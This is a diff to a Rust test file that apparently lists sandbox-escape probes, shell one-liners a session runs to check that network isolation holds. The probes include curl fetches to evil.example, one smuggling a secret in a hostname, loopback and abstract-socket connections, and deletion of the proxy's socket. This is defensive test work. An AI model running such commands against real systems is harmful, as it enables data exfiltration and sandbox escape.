@@ -1,6 +1,7 @@
 //! Ways to the machine, to the network around it and to the world that no session may take.
 
 use super::Attack;
+use super::untold::{LISTS, LOOPBACK, OWN, WRITES};
 
 /// Asks the session's proxy by hand; through where it says yes.
 fn asks(name: &str, request: &str) -> Attack {
@@ -9,7 +10,7 @@ fn asks(name: &str, request: &str) -> Attack {
          ($h, $p) = $ENV{{HTTPS_PROXY}} =~ m|//(.*):(\\d+)|; $s = IO::Socket::INET->new(\"$h:$p\") or exit; \
          local $/; print $s <STDIN>; $s->flush; $/ = \"\\n\"; $l = <$s>; print \"BROKEN\\n\" if $l =~ / 200 /'"
     );
-    Attack::told(name, &script)
+    Attack::only_inside(name, &script)
 }
 
 pub(super) fn attacks() -> Vec<Attack> {
@@ -17,7 +18,7 @@ pub(super) fn attacks() -> Vec<Attack> {
         Attack::new(
             "connect to a service on the machine's loopback",
             "perl -MIO::Socket::INET -e 'print \"BROKEN\\n\" if IO::Socket::INET->new(\"127.0.0.1:$ARGV[0]\")' $PORT",
-        ),
+        ).untold(LOOPBACK),
         Attack::new(
             "connect to a socket of the machine that has a name only",
             "perl -MSocket -e 'socket($s, AF_UNIX, SOCK_STREAM, 0); print \"BROKEN\\n\" if connect($s, pack(\"S a*\", AF_UNIX, \"\\0$ARGV[0]\"))' \"$ABSTRACT\"",
@@ -41,32 +42,32 @@ pub(super) fn attacks() -> Vec<Attack> {
         Attack::only_inside(
             "see another network than its own loopback",
             "tail -n +3 /proc/net/dev | grep -v lo: | grep -q . && echo BROKEN",
-        ),
+        ).untold(OWN),
         Attack::only_inside(
             "see the machine's connections",
             "tail -n +2 /proc/net/tcp | grep -q ':0016 ' && echo BROKEN",
-        ),
+        ).untold(OWN),
         Attack::only_inside(
             "take the place of the proxy's socket",
             "rm -f /run/skep/egress.sock && echo BROKEN",
-        ),
+        ).untold(WRITES),
         Attack::only_inside(
             "make a socket beside the proxy's",
             "touch /run/skep/new && echo BROKEN",
-        ),
+        ).untold(WRITES),
         Attack::only_inside(
             "use the ways out of other sessions",
             "ls $DATA/ways | grep -q . && echo BROKEN",
-        ),
-        Attack::told(
+        ).untold(LISTS),
+        Attack::only_inside(
             "fetch from a host nobody listed",
             "curl -s -m 5 https://evil.example/ | grep -q . && echo BROKEN",
         ),
-        Attack::told(
+        Attack::only_inside(
             "fetch from the machine by the proxy",
             "curl -s -m 5 --noproxy '' http://127.0.0.1:$PORT/ -w '%{http_code}' | grep -q 200 && echo BROKEN",
         ),
-        Attack::told(
+        Attack::only_inside(
             "send a secret in a host's name",
             "curl -s -m 5 https://c2VjcmV0.evil.example/ | grep -q . && echo BROKEN",
         ),
